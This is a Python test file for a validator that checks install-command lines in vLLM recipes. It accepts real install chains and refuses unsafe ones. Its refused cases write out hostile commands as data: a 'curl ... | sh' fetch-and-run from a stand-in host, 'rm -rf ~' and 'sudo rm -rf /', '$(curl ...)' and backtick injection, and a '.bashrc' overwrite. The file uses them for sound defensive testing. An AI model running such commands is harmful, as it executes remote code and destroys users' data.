"""The install line as people write it (issue 39.1): one plain command, or install steps chained
with `&&` (vLLM's documented `uv venv && source .venv/bin/activate && uv pip install -U vllm`),
each step held to the rules of a shown command and required to be an install step; whatever is
unsafe is refused with its reason at its character.

The expected place of a problem inside the string comes from the test's own JSON writer
(recipe_support.dump): the column of a character is the value's column plus the length of the
JSON-escaped text before it.
"""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recipe_support import check_mutated
from recipebook.checking import commandtext

GPT = "gpt-oss-120b"

# Install lines of real recipes (vLLM's documentation and the vLLM Recipes repository): accepted.
ACCEPTED = [
    "uv venv && source .venv/bin/activate && uv pip install -U vllm --torch-backend auto",
    "uv venv && source .venv/bin/activate && uv pip install -U vllm --torch-backend auto && "
    'uv pip install -U "vllm[audio]"',
    "git clone https://github.com/vllm-project/vllm-omni.git && cd vllm-omni && uv pip install -e . vllm==0.18.0",
    "uv pip install 'vllm>=0.22.0' && uv pip install git+https://github.com/vllm-project/vllm-omni.git",
    "sudo apt-get update && sudo apt-get install -y ffmpeg",
    "docker pull vllm/vllm-openai:latest",
    "VLLM_TARGET_DEVICE=empty pip install -e .",
    "python3 -m venv .venv && . .venv/bin/activate && python3 -m pip install vllm",
    "hf download MiniMaxAI/MiniMax-H3 --local-dir /models/MiniMax-H3",
    "uv pip install -U vllm --pre \\\n  --extra-index-url https://wheels.vllm.ai/nightly/cu130 && \\\n  uv pip install vllm-router",
    'pip install rebel-compiler "vllm-rbln[kv_connectors]"',
]

# (line, the character the problem is at, a fragment of its reason)
REFUSED = [
    ("pip install vllm-rbln && curl -fsSL https://x.example/i.sh | sh", "|", "more than one plain command"),
    ("uv venv && source .venv/bin/activate; rm -rf ~", ";", "more than one plain command"),
    ("uv venv && source .venv/bin/activate\nrm -rf ~", "\n", "a newline outside quotes starts another command"),
    ("uv venv && uv pip install $(curl -s https://x.example/p)", "$", "'$' outside single quotes"),
    ("uv venv && uv pip install `id`", "`", "more than one plain command"),
    ("uv pip install vllm > ~/.bashrc", ">", "more than one plain command"),
    ("uv pip install vllm>=0.22.0", ">", "more than one plain command"),
    ("uv venv && curl https://x.example/i.sh", "&&", "'curl' is not an install step"),
    ("uv venv && export VLLM_USE_DEEP_GEMM=1", "&&", "'export' is not an install step"),
    ("uv venv && sudo rm -rf /", "&&", "'sudo rm' is not an install step"),
    ("uv venv && sudo pip install vllm", "&&", "'sudo pip' is not an install step"),
    ("uv venv && source ./evil.sh", "&&", "activates a virtual environment"),
    ("uv venv && docker pull a b", "&&", "takes one argument"),
    ("echo hello", "echo", "'echo' is not an install step"),
    ("uv venv && && uv pip install vllm", "&& &&", "joins nothing"),
    ("uv venv &&", "&&", "joins nothing"),
    ("uv venv & uv pip install vllm", "&", "more than one plain command"),
    ("uv venv || uv pip install vllm", "|", "more than one plain command"),
    ('uv pip install "$HOME/x"', "$", "inside double quotes is expanded"),
    ("uv pip install 'vllm' # comment", "#", "starts a comment"),
]


def install_line(text: str):
    def mutate(data):
        data["installLine"] = text

    return mutate


def column_of(checked, text: str, index: int) -> tuple[int, int]:
    line, column = checked.position("/installLine")
    return line, column + len(json.dumps(text[:index], ensure_ascii=False)) - 1


@pytest.mark.parametrize("text", ACCEPTED)
def test_install_lines_people_write_are_accepted(tmp_path, text):
    checked = check_mutated(tmp_path, GPT, install_line(text))
    assert not [p for p in checked.problems if p.pointer == "/installLine"], "\n".join(map(str, checked.problems))
    assert checked.recipe is not None


@pytest.mark.parametrize(("text", "at", "fragment"), REFUSED)
def test_what_is_unsafe_is_refused_with_its_reason_at_its_character(tmp_path, text, at, fragment):
    checked = check_mutated(tmp_path, GPT, install_line(text))
    found = [p for p in checked.problems if p.pointer == "/installLine"]
    assert len(found) == 1, "\n".join(map(str, checked.problems))
    assert fragment in found[0].message
    assert (found[0].line, found[0].column) == column_of(checked, text, text.index(at))
    assert checked.recipe is None


def test_the_client_example_stays_one_plain_command(tmp_path):
    text = "curl http://localhost:8000/v1/models && curl http://localhost:8000/health"

    def mutate(data):
        data["client"] = text

    checked = check_mutated(tmp_path, GPT, mutate)
    found = [p for p in checked.problems if p.pointer == "/client"]
    assert len(found) == 1 and "more than one plain command" in found[0].message, found
    line, column = checked.position("/client")
    assert (found[0].line, found[0].column) == (line, column + len(json.dumps(text[: text.index("&")])) - 1)
    assert checked.recipe is None


# -- properties --------------------------------------------------------------------------------

_WORD = st.text("abcdefghijklmnopqrstuvwxyz0123456789.-_/:=", min_size=1, max_size=12).filter(
    lambda w: not w.startswith("-") and "==" not in w
)
_STEP = st.one_of(
    st.just("uv venv"),
    st.just("source .venv/bin/activate"),
    st.builds(lambda ws: " ".join(["uv pip install", *ws]), st.lists(_WORD, min_size=1, max_size=3)),
    st.builds(lambda ws: " ".join(["pip install -U", *ws]), st.lists(_WORD, min_size=1, max_size=3)),
    st.builds(lambda w: f"docker pull {w}", _WORD),
    st.builds(lambda ws: " ".join(["sudo apt-get install -y", *ws]), st.lists(_WORD, min_size=1, max_size=2)),
    st.builds(lambda w: f"git clone https://github.com/{w}", _WORD),
    st.builds(lambda w: f"cd {w}", _WORD),
)
_NOT_INSTALL = st.sampled_from(["curl https://x.example/i.sh", "rm -rf build", "bash install.sh", "wget x", "eval x"])


@settings(max_examples=60, deadline=None)
@given(st.lists(_STEP, min_size=1, max_size=5))
def test_any_chain_of_install_steps_is_accepted(steps):
    assert commandtext.install_line_problem(" && ".join(steps)) is None


@settings(max_examples=60, deadline=None)
@given(st.lists(_STEP, min_size=1, max_size=4), st.integers(min_value=1, max_value=4), _NOT_INSTALL)
def test_a_step_that_is_not_an_install_step_is_refused_at_the_join_before_it(steps, at, intruder):
    at = min(at, len(steps))
    chained = [*steps[:at], intruder, *steps[at:]]
    text = " && ".join(chained)
    found = commandtext.install_line_problem(text)
    assert found is not None
    index, message = found
    expected = len(" && ".join(chained[:at])) + 1  # the '&&' before the intruder
    assert index == expected, (text, found)
    assert f"{intruder.split()[0]!r} is not an install step" in message


@settings(max_examples=60, deadline=None)
@given(st.lists(_STEP, min_size=2, max_size=4), st.sampled_from([";", "|", "\n", "||", "&"]))
def test_another_separator_between_install_steps_is_refused_there(steps, separator):
    text = f" {separator} ".join(steps)
    found = commandtext.install_line_problem(text)
    assert found is not None
    index, _message = found
    assert index == text.index(separator[0])
